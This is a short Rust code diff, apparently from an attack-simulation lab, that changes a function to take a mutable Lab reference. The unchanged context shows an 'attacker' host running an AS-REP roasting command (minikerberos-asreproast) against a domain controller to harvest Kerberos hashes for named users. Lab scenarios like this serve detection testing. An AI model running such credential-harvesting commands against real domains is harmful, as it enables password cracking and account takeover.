@@ -19,7 +19,7 @@ pub(super) const SCENE: Scene = Scene::attack(
     play,
 );
 
-fn play(lab: &Lab) -> Result<()> {
+fn play(lab: &mut Lab) -> Result<()> {
     lab.host("attacker")?.script(
         r#"minikerberos-asreproast --etypes 18,17 "$DC" "$REALM" alice bob carol nopreauth |
                grep krb5asrep"#,
